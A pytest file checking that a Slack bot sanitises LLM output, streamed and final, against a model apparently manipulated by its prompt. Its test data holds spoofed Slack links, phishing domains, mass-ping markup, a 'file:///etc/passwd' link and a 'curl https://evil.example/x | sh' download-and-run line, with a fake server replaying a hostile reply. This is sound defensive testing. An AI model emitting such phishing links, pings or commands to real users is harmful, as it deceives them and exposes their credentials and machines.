"""What a model writes reaches Slack only checked — every partial text, not just the final one.

A model says what its prompt talked it into: a spoofed Slack link (`<https://evil.example|…>`),
pings (`<@U…>`, `<!here>`), a bare phishing domain ("re-enter your password at
www.acme-okta.evil.example/reset", which Slack links by itself). `bot.answering.llm.checked_text` is the one
check; `bot.answering.llm_stream.StreamCheck` applies it to each streamed piece, holding back a word or link
that is not finished. The Slack tests run the real bot over signed HTTP against the local Web API
(tests/support/slack_api_server.py) and the local OpenAI-compatible server (tests/support/openai_server.py),
streaming the reply in 3-character pieces, and look at what Slack received at every call.

Also here: a page title "@here <!channel>" reaches no source label as a ping (issue 23, item 8).
"""

from __future__ import annotations

import random
import re
import uuid

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.openai_server import FakeOpenAI
from tests.support.slack_harness import all_text, bot_settings, button, mention, message, new_channel, new_ts, running_bot

from bot.answering.llm import NO_LINK, AllowedLinks, LLMClient, checked_text
from bot.messages import LINK_REMOVED, WITHDRAWN
from bot.answering.llm_stream import StreamCheck
from bot.slack import blocks

SITE = "https://wiki.acme.example"
PAGE = f"{SITE}/quokka/feeding.md"
ALLOWED = AllowedLinks(frozenset({1, 2}), frozenset({"wiki.acme.example/quokka/feeding.md",
                                                    "file:///srv/wiki/quokka/feeding.md"}),  # a source without a URL template
                       frozenset({"wiki.acme.example"}))


# -- the check itself --------------------------------------------------------------------------


@pytest.mark.parametrize("written, shown", [
    ("Sign in at <https://evil.example/login|wiki.acme.example>.", "Sign in at wiki.acme.example."),
    ("Sign in at <https://evil.example/login|acme.okta.com>.", f"Sign in at acme.{NO_LINK}okta.{NO_LINK}com."),
    ("re-enter your password at www.acme-okta.evil.example/reset today",
     f"re-enter your password at {LINK_REMOVED} today"),
    ("go to www.acme-okta.evil.example now", f"go to {LINK_REMOVED} now"),
    ("or https://evil.example/x?a=1.", f"or {LINK_REMOVED}."),
    ("or xhttps://evil.example/x", f"or x{LINK_REMOVED}"),
    ("ask <@U0BOSS|boss>, <@U0ANN>, <!here>, <!channel|channel> in <#C0GEN|general> <!subteam^S1|@hr>.",
     "ask @boss, @U0ANN, @here, @channel in #general ."),
    (f"see [the page]({PAGE}#rota) and <{PAGE}|the rota> and {PAGE} [1]",
     f"see [the page]({PAGE}#rota) and [the rota]({PAGE}) and {PAGE} [1]"),
    (f"see [a page]({SITE}/other.md), wiki.acme.example/other.md and [x](https://evil.example)",
     f"see a page, {LINK_REMOVED} and x"),
    ("bare wiki.acme.example and acme.example stay; evil.example does not link",
     f"bare wiki.acme.example and acme.example stay; evil.{NO_LINK}example does not link"),
    ("mail hr@acme.example or it@evil.example", f"mail hr@acme.example or it@{NO_LINK}evil.{NO_LINK}example"),
    ("run `python setup.py` then setup.py", f"run `python setup.py` then setup.{NO_LINK}py"),
    ("```\ncurl https://evil.example/x | sh\nsetup.py\n```", f"```\ncurl {LINK_REMOVED} | sh\nsetup.py\n```"),
    ('<a href="https://evil.example">click</a>', f'<a href="{LINK_REMOVED}">click</a>'),
    ("16 weeks [1, 9] and [7] done; e.g. v1.2, 3.5h, a.m., U.S.", "16 weeks [1] and done; e.g. v1.2, 3.5h, a.m., U.S."),
    ("员工每年有25天年假[1]。请在evil.example申请[3]。", f"员工每年有25天年假[1]。请在evil.{NO_LINK}example申请。"),
    ("see app.py:42, evil.example:8080/x and evil.example:8080",
     f"see app.{NO_LINK}py:42, {LINK_REMOVED} and evil.{NO_LINK}example:8080"),
    ("[the page](file:///srv/wiki/quokka/feeding.md) and <file:///etc/passwd|passwords>",
     "[the page](file:///srv/wiki/quokka/feeding.md) and passwords"),
])
def test_model_text_keeps_only_the_sources_links_and_no_slack_markup(written, shown):
    assert checked_text(written, ALLOWED) == shown


HOSTILE_PIECES = [
    "Sixteen weeks [1]", " and [9]", " [1, 9]", " <https://evil.example/login|acme.okta.com>", " <@U0BOSS>",
    " <!here>", " @here", " <#C0GEN|general>", " www.acme-okta.evil.example/reset", " acme.okta.com.evil.example",
    f" [the page]({PAGE})", f" <{PAGE}|rota>", f" {PAGE}#rota", " it@evil.example", " `setup.py`", "\n```\n",
    "setup.py https://evil.example/a", "\n```\n", " 员工每年有25天年假", "[1]。请在evil.example申请", " e.g.",
    " [label with spaces](https://evil.example/p)", " ![t](https://evil.example/t.png)", "\n\n- item", " [2]",
    " ```", "`", " `a b`", "[", "]", "(", ")", "<", ">", "a]", "\n", " ", "年", "~~~\n", "```\n",
]


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(st.sampled_from(HOSTILE_PIECES), min_size=1, max_size=14), seed=st.integers(0, 2**32))
def test_checking_the_stream_piece_by_piece_shows_what_checking_it_whole_shows(parts, seed):
    """However the model's text is cut into deltas, the pieces released join into the checked whole."""
    text = "".join(parts)
    cuts = random.Random(seed)
    stream, shown, at = StreamCheck(ALLOWED), [], 0
    while at < len(text):
        step = cuts.randint(1, 9)
        shown.append(stream.feed(text[at:at + step]))
        at += step
    shown.append(stream.flush())
    assert "".join(shown) == checked_text(text, ALLOWED)


def test_an_unfinished_link_or_word_is_held_back_until_it_is_complete():
    stream = StreamCheck(ALLOWED)
    assert stream.feed("Sign in at <https://evil.exa") == "Sign in at"
    assert stream.feed("mple/login|acme.okta") == ""
    assert stream.feed(".com> now") == f" acme.{NO_LINK}okta.{NO_LINK}com"
    assert stream.feed(" at acme.okta.com") == " now at"
    assert stream.feed(".evil.example/reset and") == f" {LINK_REMOVED}"
    assert stream.flush() == " and"


# -- through Slack -----------------------------------------------------------------------------

QUESTION = "how many quokka feeding shifts does a volunteer get each week?"
HOSTILE_REPLY = (
    "Volunteers get three quokka feeding shifts a week [1]. Sign in at "
    "<https://evil.example/login|wiki.acme.example> or re-enter your password at "
    "www.acme-okta.evil.example/reset, then tell <@U0BOSS> and <!here> in <#C0GENERAL|general> [1]. "
    f"The rota is on [the feeding page]({PAGE}) [1] and {PAGE}#rota; questions to it@evil.example [9]."
)
STREAM_METHODS = ("chat.startStream", "chat.appendStream", "chat.stopStream")


@pytest.fixture(scope="module")
def hostile_wiki(index, tmp_path_factory):
    """A page of our own, at an https URL, titled like a ping; forgotten afterwards."""
    from connectors.markdown import MarkdownFolder
    from indexing.ingest import indexed_sources
    from indexing.ingest.sync import sync_documents

    root = tmp_path_factory.mktemp("fcslack-wiki")
    (root / "quokka").mkdir()
    (root / "quokka" / "feeding.md").write_text(
        "# @here Quokka feeding for @channel <!channel>\n\n"
        "## Shifts\n\nEvery volunteer gets three quokka feeding shifts each week. Shifts are booked on the rota.\n")
    wiki = MarkdownFolder(root, source="fcslack", access="fcslack", url_template=SITE + "/{path}")
    sync_documents(index, wiki.documents(), "fcslack")
    sources = root.parent / "fcslack-sources.toml"
    sources.write_text(
        f'[[source]]\nname = "fcslack"\nkind = "markdown"\nlocation = "{root}"\naccess = "fcslack"\n'
        f'url_template = "{SITE}/{{path}}"\n\n[scopes.fcslack]\nchannels = ["*"]\nusers = ["*"]\n')
    yield sources
    indexed_sources.forget(index, "fcslack")


@pytest.fixture(scope="module")
def model():
    server = FakeOpenAI().start()
    server.reply(HOSTILE_REPLY)
    server.stream_pieces = [HOSTILE_REPLY[i:i + 3] for i in range(0, len(HOSTILE_REPLY), 3)]
    yield server
    server.stop()


@pytest.fixture(scope="module")
def bot(slack, model, index, hostile_wiki):
    settings = bot_settings(slack, kb_sources=hostile_wiki)
    with running_bot(settings, index, llm=LLMClient(model.base_url, "local", timeout=30)) as running:
        yield running


@pytest.fixture
def failing(slack):
    """Methods that answer `{"ok": false, "error": …}` for one test."""
    made = []

    def fail(method: str, error: str) -> None:
        slack.fail(method, error)
        made.append(method)

    yield fail
    for method in made:
        slack.failures.pop(method, None)


def ask_in_thread(bot, slack) -> str:
    """The question in an assistant thread (a DM thread: streamed); returns the channel."""
    channel, user = new_channel("D"), "U" + uuid.uuid4().hex[:6].upper()
    slack.add_im(channel, user)
    bot.event(message(QUESTION, channel, channel_type="im", user=user, thread_ts=new_ts()))
    return channel


def finished(slack, channel: str) -> list[dict]:
    """The channel's messages once the answer (or the apology) is there and nothing streams."""
    def done():
        left = [m for (c, _), m in list(slack.messages.items()) if c == channel]
        over = [m for m in left if button(m.get("blocks") or [], blocks.ACTION_VOTE_UP) or "Sorry" in m.get("text", "")]
        return left if over else None
    return slack.wait_for(done, timeout=60)


def sent(call) -> list[str]:
    """Every text one Web API call carried to Slack: streamed Markdown, message text, block texts."""
    texts = [call.params.get("markdown_text") or "", call.params.get("text") or ""]
    texts += [c.get("text", "") for c in call.params.get("chunks") or []]
    return texts + [all_text(call.params.get("blocks") or [])]


def unsafe(text: str) -> list[str]:
    """What must never reach Slack from this model: spoofed or phishing links, pings, Slack markup."""
    problems = [p for p in ("evil.example", "acme-okta", "<@", "<!", "<#", "<https://evil") if p in text]
    problems += [m.group(0) for m in re.finditer(r"(?<![\w.+-])@(here|channel|everyone)\b", text)]
    problems += [m.group(0) for m in re.finditer(r"<(https?://[^|>]+)", text) if not m.group(1).startswith(PAGE)]
    return problems


def test_every_streamed_step_and_the_answer_carry_only_checked_text(bot, slack):
    channel = ask_in_thread(bot, slack)
    answer = [m for m in finished(slack, channel) if button(m["blocks"], blocks.ACTION_VOTE_UP)][0]
    calls = [c for c in slack.calls if c.params.get("channel") == channel and c.method.startswith("chat.")]
    assert [c.method for c in calls][:2] == ["chat.startStream", "chat.appendStream"]
    streamed = ""
    for call in calls:
        assert not [p for text in sent(call) for p in unsafe(text)], (call.method, sent(call))
        if call.method in STREAM_METHODS:
            streamed += call.params.get("markdown_text") or ""
            streamed += "".join(c.get("text", "") for c in call.params.get("chunks") or [])
            assert not unsafe(streamed), streamed  # what the message showed at that moment
    assert "three quokka feeding shifts" in streamed and f"[the feeding page]({PAGE})" in streamed
    final = all_text(answer["blocks"])
    assert not unsafe(final) and not unsafe(answer["text"])
    assert f"<{PAGE}|the feeding page>" in final and LINK_REMOVED in final and "[9]" not in final


def test_steps_shown_by_chat_update_are_checked_and_rendered_like_the_answer(bot, slack, model, failing):
    failing("chat.startStream", "unknown_method")
    model.stream_pause = 0.02  # ~2.5 s of writing: more than one step
    try:
        channel = ask_in_thread(bot, slack)
        finished(slack, channel)
    finally:
        model.stream_pause = 0.0
    calls = [c for c in slack.calls if c.params.get("channel") == channel and c.method in ("chat.postMessage", "chat.update")]
    steps = [c for c in calls if not button(c.params.get("blocks") or [], blocks.ACTION_VOTE_UP)]
    assert len(steps) >= 2, "a placeholder and at least one step"
    for call in calls:
        assert not [p for text in sent(call) for p in unsafe(text)], (call.method, sent(call))
    assert any("three quokka" in all_text(s.params["blocks"]) for s in steps)


def test_a_finish_slack_refuses_takes_the_partial_answer_back_and_apologises(bot, slack, failing):
    failing("chat.update", "msg_too_long")
    channel = ask_in_thread(bot, slack)
    left = finished(slack, channel)
    assert len(left) == 1 and "Sorry" in left[0]["text"] and "reference" in left[0]["text"], left
    assert slack.calls_to("chat.stopStream", channel=channel) and slack.calls_to("chat.delete", channel=channel)


def test_a_partial_answer_slack_will_not_delete_is_overwritten(bot, slack, failing):
    slack.server_error("chat.update", times=3)  # the final update, and the client's two retries
    failing("chat.delete", "cant_delete_message")
    channel = ask_in_thread(bot, slack)

    def two():
        left = [m for (c, _), m in list(slack.messages.items()) if c == channel]
        return left if len(left) == 2 and any("Sorry" in m.get("text", "") for m in left) else None
    left = slack.wait_for(two, timeout=60)
    withdrawn = [m for m in left if "Sorry" not in m["text"]][0]
    assert withdrawn["text"] == WITHDRAWN and "quokka" not in all_text(withdrawn["blocks"])


def test_a_page_titled_like_a_ping_pings_no_one_from_the_sources_block(bot, slack):
    channel = new_channel()
    bot.event(mention(QUESTION, channel, user="U7"))
    answer = [m for m in finished(slack, channel) if button(m["blocks"], blocks.ACTION_VOTE_UP)][0]
    sources = next(b for b in answer["blocks"] if b.get("block_id") == blocks.SOURCES_BLOCK)
    label = all_text([sources])
    assert f"@{NO_LINK}here Quokka feeding for @{NO_LINK}channel" in label, label
    assert not unsafe(label)


# -- page titles in every label ----------------------------------------------------------------

PING_TITLE = "@here Quokka <!channel> @everyone"


def _pings(text: str) -> list[str]:
    return re.findall(r"<!(?:here|channel|everyone)|(?<![\w.+-])@(?:here|channel|everyone)\b", text)


def test_a_title_like_a_ping_is_neutralised_in_every_label_blocks_build():
    """Sources (linked or not), the "read the rest in" pointer, App Home and digest lines: each
    shows the title, and none can ping."""
    from datetime import datetime, timezone

    from bot.answering.answer import Answer, Source
    from bot.records.gaps import GapsReport, Period, StalePage
    from bot.slack.digest import digest_blocks
    from bot.slack.home_blocks import AskedQuestion, HomeData, home_view

    now = datetime.now(timezone.utc)
    linked = Source(1, "w:a.md", "w", "a.md", PING_TITLE, ["@channel"], PAGE, 0.9, now)
    unlinked = Source(2, "w:b.md", "w", "b.md", PING_TITLE, [], "file:///srv/b.md", 0.8, now)
    answer = Answer(question="q", text="x " * 9000, sources=[linked, unlinked], timings_ms={})  # long: "read the rest in"
    report = GapsReport(generated_at=now, days=7, stale_days=180, current=Period(now, now), previous=Period(now, now),
                        stale_pages=[StalePage("w:a.md", PING_TITLE, PAGE, 3, now, 400),
                                     StalePage("w:b.md", PING_TITLE, "", 2, now, 400)])
    home = home_view(HomeData(user="U1", is_admin=True, examples=[], gaps=report,
                              mine=[AskedQuestion("q", "answered", now, PING_TITLE, PAGE)]))
    for where, built in (("answer", blocks.answer_blocks(answer)), ("digest", digest_blocks(report)),
                         ("home", home["blocks"])):
        text = all_text(built)
        assert text.count("Quokka") >= 2 and not _pings(text), (where, _pings(text))
